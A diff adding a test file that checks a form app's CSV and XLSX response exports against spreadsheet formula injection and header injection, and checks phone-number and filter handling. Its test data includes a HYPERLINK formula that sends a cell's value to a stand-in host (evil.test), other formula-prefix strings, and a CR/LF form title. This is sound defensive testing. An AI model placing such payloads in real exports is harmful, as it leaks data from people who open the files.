@@ -1,0 +1,113 @@
+import * as XLSX from "@e965/xlsx";
+import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
+import type { FormElement } from "../../app/forms/definition.ts";
+import type { Form } from "../../app/forms/find-form.server.ts";
+import { addResponses, person } from "../factories/form-responses.ts";
+import { addPublishedForm, contactQuestions, element } from "../factories/published-form.ts";
+import { csvAt } from "../setup/csv-at.ts";
+import { wordsOf } from "../setup/fill-form.ts";
+import { startApp, type TestApp } from "../setup/start-app.ts";
+
+type Organiser = Awaited<ReturnType<TestApp["organiser"]>>;
+
+const NOW = new Date("2026-03-10T11:00:00.000Z");
+const FORMULA = '=HYPERLINK("http://evil.test?x="&A1,"Click")';
+
+let app: TestApp;
+let owner: Organiser;
+let form: Form;
+let base: string;
+
+beforeAll(async () => {
+  app = await startApp({ overrides: { clock: () => NOW } });
+  owner = await app.organiser({ email: "owner@lagoon.test" });
+});
+afterAll(() => app.stop());
+
+beforeEach(async () => {
+  form = await addForm([...contactQuestions(), track()]);
+  base = `/forms/${form.id}/responses`;
+});
+
+const addForm = (elements: FormElement[]) => addPublishedForm(app.installation, owner, { elements });
+
+function track(options = ["Data", "Design", "Writing"]): FormElement {
+  return element("single-choice", { id: "trackabc", label: "Which track?", settings: { options } });
+}
+
+async function sheetAt(path: string): Promise<XLSX.WorkSheet> {
+  const answer = await owner.get(path);
+  expect([answer.status, answer.headers.get("Content-Type")]).toEqual([
+    200,
+    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+  ]);
+  const book = XLSX.read(Buffer.from(await answer.arrayBuffer()), { cellFormula: true });
+  return book.Sheets[book.SheetNames[0]!]!;
+}
+
+test("C24 both spreadsheets hold what was answered, as text: no formula, and phone numbers keep plus and zeros", async () => {
+  const phone = element("short-text", { id: "phoneabc", label: "=Phone" });
+  form = await addForm([...contactQuestions(), phone]);
+  base = `/forms/${form.id}/responses`;
+  const texts = [
+    FORMULA,
+    "+2348031234567",
+    "0803",
+    "-1+2",
+    "@SUM(A1)",
+    "＝1",
+    "a\r\nb",
+    'He said "hi", twice',
+    "_x0041_ \u0001\ud800 & <b>",
+    "007",
+  ];
+  await addResponses(
+    app.installation,
+    form.id,
+    texts.map((text, n) => ({
+      answers: person(`P${n}`, "Ọkọ́", { employer: text, phoneabc: text }),
+      at: "2026-03-04T22:30:00.000Z",
+    })),
+  );
+  const sheet = await csvAt(owner, `${base}/export.csv`);
+  expect(sheet).toHaveLength(texts.length + 1);
+  expect(sheet[0]).toEqual([
+    ...["No.", "Reference", "Sent in (Lagos time)", "First name", "Last name", "Email Address", "Where do you work?", "'=Phone"],
+  ]);
+  expect(sheet[1]!.slice(2, 6)).toEqual(["2026-03-04 23:30", "P0", "Ọkọ́", "p@people.test"]);
+  for (const row of sheet) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\uff1d]/);
+  expect(sheet[1]![6]).toBe(`'${FORMULA}`);
+
+  const workbook = await sheetAt(`${base}/export.xlsx`);
+  const rows = XLSX.utils.sheet_to_json<string[]>(workbook, { header: 1, raw: true });
+  expect(rows[0]!.slice(-1)).toEqual(["=Phone"]);
+  const kept = texts.map((text) => text.replace(/[\u0001\ud800]/g, "").replace("\r\n", "\n"));
+  expect(rows.slice(1).map((row) => row[6])).toEqual(kept);
+  expect(rows.slice(1).map((row) => row[7])).toEqual(kept);
+  expect(rows[1]![0]).toBe(1);
+  for (const [at, cell] of Object.entries(workbook) as [string, XLSX.CellObject][])
+    if (!at.startsWith("!")) expect([at, cell.f, cell.t]).toEqual([at, undefined, at.startsWith("A") && at !== "A1" ? "n" : "s"]);
+});
+
+test("a spreadsheet holds what the table shows, in whatever name a form has", async () => {
+  await app.installation.db
+    .updateTable("forms")
+    .set({ title: 'Ọjọ́: "best" [form]/2026?\r\nX: y' })
+    .where("id", "=", form.id)
+    .execute();
+  await addResponses(
+    app.installation,
+    form.id,
+    Array.from({ length: 1203 }, (_, n) => ({ answers: person(`P${n}`, "X", { trackabc: n % 3 ? "Data" : "Design" }) })),
+  );
+  const query = "?q=trackabc&is=Design";
+  const numbers = Array.from({ length: 401 }, (_, n) => String(n * 3 + 1));
+  expect((await csvAt(owner, `${base}/export.csv${query}`)).slice(1).map(([number]) => number)).toEqual(numbers);
+  const rows = XLSX.utils.sheet_to_json<string[]>(await sheetAt(`${base}/export.xlsx${query}`), { header: 1 });
+  expect(rows.slice(1).map(([number]) => String(number))).toEqual(numbers);
+  expect(wordsOf(await owner.page(base + query))).toContain("of 401 responses");
+  const answer = await owner.get(`${base}/export.xlsx`);
+  expect(answer.headers.get("Content-Disposition")).not.toMatch(/[\r\n]/);
+  expect(answer.headers.get("X")).toBeNull();
+  await answer.arrayBuffer();
+});
